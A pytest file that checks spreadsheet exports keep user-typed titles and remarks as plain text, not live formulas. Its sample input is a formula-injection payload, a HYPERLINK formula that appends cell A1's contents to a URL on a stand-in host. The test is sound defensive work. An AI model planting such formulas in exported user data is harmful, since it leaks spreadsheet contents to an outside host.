"""M2: text typed by a user is written as text in every workbook, never as a live formula."""

import pytest

from tests import factories
from tests.hardening.workbook_helpers import cells_of, every_workbook

FORMULA = '=HYPERLINK("http://x/?"&A1,"คลิก")'


@pytest.mark.parametrize("kind", ["plan", "results", "booklet"])
def test_a_title_that_looks_like_a_formula_stays_text(world, kind):
    world.project_a.title = FORMULA
    world.project_a.remark = "=1+1"
    world.project_a.save()
    factories.ActivityFactory(project=world.project_a, title="=SUM(A1:A9)")
    data = every_workbook(world)[kind]
    cells = [c for c in cells_of(data) if isinstance(c.value, str) and c.value.startswith("=")]
    assert FORMULA in [c.value for c in cells]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
